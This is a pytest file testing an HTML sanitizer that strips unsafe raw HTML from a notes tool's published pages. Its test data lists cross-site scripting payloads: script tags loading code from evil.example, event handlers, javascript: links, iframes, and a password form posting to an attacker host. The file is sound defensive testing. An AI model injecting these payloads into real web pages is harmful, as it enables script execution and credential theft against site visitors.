"""Raw HTML in notes made safe in publish builds (privacy/raw_html.py), and the option that keeps it."""

from __future__ import annotations

import importlib.util
import shutil
from typing import TYPE_CHECKING

import markdown
import pytest
from conftest import REPO, Journal, entry
from growthlog.privacy.raw_html import clean, line_of, removed
from test_private_parts import RICH
from test_publish import checkout, publish

if TYPE_CHECKING:
    from pathlib import Path

needs_encrypt = pytest.mark.skipif(
    importlib.util.find_spec("encryptcontent") is None,
    reason="the [encrypt] extra (mkdocs-encryptcontent-plugin) is not installed; pip install -e '.[encrypt]'",
)

#: Raw HTML that runs code, loads something or imitates the page, each with what must not survive.
ATTACKS = {
    "script": ("<script>alert(1)</script>", ["<script", "alert"]),
    "script upper case": ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["<script", "evil"]),
    "event handler": ('<img src="x.png" onerror="alert(1)">', ["onerror", "alert"]),
    "handler on a paragraph": ('<p onclick="steal()">hi</p>', ["onclick", "steal"]),
    "javascript link": ('<a href="javascript:alert(1)">x</a>', ["javascript", "alert"]),
    "javascript mixed case": ('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript", "alert"]),
    "javascript with a tab": ('<a href="java\tscript:alert(1)">x</a>', ["script:", "alert"]),
    "javascript as entities": ('<a href="&#106;avascript:alert(1)">x</a>', ["avascript", "alert"]),
    "vbscript": ('<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "msgbox"]),
    "data html link": ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', ["data:", "PHNjcmlwdD4"]),
    "svg data image": ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', ["data:", "PHN2Zz4"]),
    "iframe": ('<iframe src="https://evil.example"></iframe>', ["iframe", "evil"]),
    "iframe srcdoc": ('<iframe srcdoc="<script>x</script>"></iframe>', ["iframe", "srcdoc"]),
    "form": (
        '<form action="https://evil.example"><input type="password" name="p"></form>',
        ["<form", "evil", "password"],
    ),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ["refresh", "evil"]),
    "object": ('<object data="https://evil.example/x.swf"></object>', ["<object", "evil"]),
    "embed": ('<embed src="https://evil.example/x.swf">', ["<embed", "evil"]),
    "style overlay": ('<div style="position:fixed;inset:0">Log in again</div>', ["style", "fixed"]),
    "style tag": ("<style>body{display:none}</style>", ["<style", "display"]),
    "base": ('<base href="https://evil.example/">', ["<base", "evil"]),
    "link stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', ["<link", "evil"]),
    "svg onload": ('<svg onload="alert(1)"><path d="M0 0"/></svg>', ["onload", "alert"]),
    "svg script": ("<svg><script>alert(1)</script></svg>", ["<script", "alert"]),
    "attr_list handler": ('Text\n{: onclick="alert(1)" }', ["onclick", "alert"]),
    "markdown javascript link": ("[x](javascript:alert(1))", ["javascript", "alert"]),
    "markdown data link": ("[x](data:text/html,hi)", ["data:"]),
}


def render(body: str) -> str:
    return markdown.Markdown(extensions=RICH).convert(body)


@pytest.mark.parametrize("body,gone", ATTACKS.values(), ids=ATTACKS.keys())
def test_unsafe_raw_html_is_removed(body: str, gone: list[str]) -> None:
    html = render(f"Before.\n\n{body}\n\nAfter.")
    safe = clean(html)
    assert "Before." in safe and "After." in safe
    for text in gone:
        assert text.casefold() not in safe.casefold(), text
    assert removed(html, safe)


def test_what_markdown_writes_is_kept_as_it_is() -> None:
    rich = (
        '# Title {: #custom .cls }\n\nPara *em* **strong** `code` [link](https://a.example "t") '
        '[rel](../x/) ![img](pic.png "i") ![dot](data:image/png;base64,iVBORw0KGgo=) H~2~O\n\n'
        '!!! note "Box"\n    Inside\n\n??? info\n    Closed\n\n???+ tip\n    Open\n\n'
        "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n"
        "```python\ndef f():\n    return 1\n```\n\n"
        "Text[^1] about HTML\n\n*[HTML]: Hyper Text Markup Language\n\n[^1]: A footnote.\n\n"
        "- [x] done\n- [ ] todo\n\n"
        '=== "A"\n    one\n=== "B"\n    two\n\n'
        "Term\n:   Definition\n\n> quote\n\n1. one\n2. two\n\n---\n\n<mark>mark</mark> <kbd>Ctrl</kbd> <del>d</del>\n"
    )
    html = markdown.Markdown(
        extensions=[*RICH, "pymdownx.tasklist", "pymdownx.tilde"],
        extension_configs={"toc": {"permalink": True}, "pymdownx.tabbed": {"alternate_style": True}},
    ).convert(rich)
    safe = clean(html)
    assert not removed(html, safe), removed(html, safe).describe()
    for kept in (
        'id="custom"',
        'class="headerlink"',
        "admonition note",
        "<details",
        "open",
        "<summary>",
        'style="text-align: center;"',
        'class="highlight"',
        'class="k"',
        'id="fnref:1"',
        'href="#fn:1"',
        "<abbr",
        'title="Hyper Text Markup Language"',
        'type="checkbox"',
        'type="radio"',
        'for="__tabbed_1_1"',
        "data:image/png;base64",
        'href="../x/"',
        "<sub>",
    ):
        assert kept in safe, kept


def test_the_report_names_tags_and_attributes_never_values() -> None:
    html = render(
        '<p onclick="Jane Whitfield">x</p>\n\n<script>var salary = 152000;</script>\n\n<script></script>'
    )
    report = removed(html, clean(html))
    assert report.describe() == "<script> (2), the onclick attribute"
    assert "Whitfield" not in report.describe() and "152000" not in report.describe()


def test_the_line_of_the_first_removed_thing_is_found_in_the_source() -> None:
    body = "Line one.\n\nLine three <b>ok</b>.\n\n<SCRIPT>x</SCRIPT>\n<p onclick=x>y</p>"
    assert line_of(body, ["<script", "onclick"]) == 4
    assert line_of(body, ["onmouseover"]) is None


# -- in builds ------------------------------------------------------------------------

NOTES = (
    "Public notes.\n\n"
    "<script>document.title = 'pwned'</script>\n\n"
    '<a href="javascript:alert(1)">click</a> and <img src="x.png" onerror="alert(2)">\n\n'
    '<iframe src="https://evil.example/"></iframe>\n'
)


def test_a_publish_build_removes_unsafe_html_and_says_where(
    journal: Journal, caplog: pytest.LogCaptureFixture
) -> None:
    journal.write("a.md", entry(body=NOTES))
    site = journal.build(strict=False)
    page = (site / "a/index.html").read_text(encoding="utf-8")
    assert "Public notes." in page and "click" in page
    for gone in ("pwned", "javascript:", "onerror", "evil.example"):
        assert gone not in page, gone
    assert (
        "a.md:10: notes: raw HTML removed from the published page: <iframe>, <script>, "
        "the href attribute, the onerror attribute" in caplog.text
    )


def test_a_warning_fails_a_strict_build(journal: Journal) -> None:
    from mkdocs.exceptions import Abort

    journal.write("a.md", entry(body=NOTES))
    with pytest.raises(Abort):
        journal.build(strict=True)


def test_raw_html_keep_publishes_it_as_written(journal: Journal, caplog: pytest.LogCaptureFixture) -> None:
    journal.write("a.md", entry(body=NOTES))
    journal.plugin_config()["raw_html"] = "keep"
    page = (journal.build(strict=False) / "a/index.html").read_text(encoding="utf-8")
    assert "<script>document.title = 'pwned'</script>" in page
    assert "raw HTML removed" not in caplog.text


def test_the_local_preview_shows_raw_html_as_written(journal: Journal) -> None:
    journal.write("a.md", entry(body=NOTES))
    journal.plugin_config()["show_private"] = True
    page = (journal.build(strict=False) / "a/index.html").read_text(encoding="utf-8")
    assert "pwned" in page


def test_an_unknown_raw_html_option_is_refused(journal: Journal) -> None:
    from mkdocs.exceptions import Abort

    journal.write("a.md", entry())
    journal.plugin_config()["raw_html"] = "maybe"
    with pytest.raises(Abort):
        journal.build()


@needs_encrypt
def test_the_encrypted_build_cleans_before_encrypting(
    journal: Journal, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    journal.write("a.md", entry(body=NOTES))
    shutil.copy(REPO / "mkdocs.encrypt.yml", journal.root / "mkdocs.encrypt.yml")
    monkeypatch.setenv("GROWTHLOG_PASSWORD", "correct horse battery staple 1978")
    site = journal.build(config_name="mkdocs.encrypt.yml", strict=False)
    assert "mkdocs-encrypted-content" in (site / "a/index.html").read_text(encoding="utf-8")
    assert "a.md:10: notes: raw HTML removed from the published page" in caplog.text


def test_growthlog_publish_pushes_no_script(
    journal: Journal, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import subprocess

    from test_publish import git

    journal.write("a.md", entry(body=NOTES))
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    git("init", "-q", cwd=journal.root)
    git("remote", "add", "origin", str(remote), cwd=journal.root)
    journal.write_config()
    monkeypatch.chdir(journal.root)
    code, output = publish()
    assert code == 1  # the cleaning is a warning, and publish refuses warnings unless told
    code, output = publish("--allow-warnings")
    assert code == 0, output
    page = (checkout(remote, "gh-pages", tmp_path / "out") / "a/index.html").read_text(encoding="utf-8")
    assert "Public notes." in page and "pwned" not in page and "javascript:" not in page
